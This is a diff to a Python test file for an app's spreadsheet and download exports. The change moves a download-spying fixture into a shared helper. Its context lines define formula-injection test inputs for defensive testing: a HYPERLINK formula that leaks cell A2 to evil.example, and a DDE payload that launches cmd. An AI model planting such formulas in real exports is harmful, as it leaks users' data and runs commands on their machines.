@@ -24,7 +24,6 @@ from markdown_it import MarkdownIt
 from openpyxl import Workbook, load_workbook
 from pptx import Presentation
 from sqlalchemy import update
-from streamlit.delta_generator import DeltaGenerator
 
 from cli.main import tablero
 from components.core.figures import plain
@@ -41,7 +40,7 @@ from exports.pack import build_pack
 from rules.core.catalog import ALERT_CATEGORIES, Role
 from rules.core.nit import format_nit
 from rules.routes.funnels import Cohort
-from tests.apptest_utils import run_app
+from tests.apptest_utils import run_app, spy_downloads
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver soporte")'
 HOSTILE = (LEAK, "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1")
@@ -118,14 +117,7 @@ def assert_literal(markdown: str, typed: str) -> None:
 @pytest.fixture
 def downloads(monkeypatch) -> dict[str, bytes]:
     """Every file a page offers (file name → bytes), made by the real download buttons' builders."""
-    made: dict[str, object] = {}
-    real = DeltaGenerator.download_button
-
-    def spy(self, label, data, file_name=None, *args, **kwargs):
-        made[file_name] = data
-        return real(self, label, data, file_name, *args, **kwargs)
-
-    monkeypatch.setattr(DeltaGenerator, "download_button", spy)
+    made = spy_downloads(monkeypatch)
 
     class Files(dict):
         offered = made
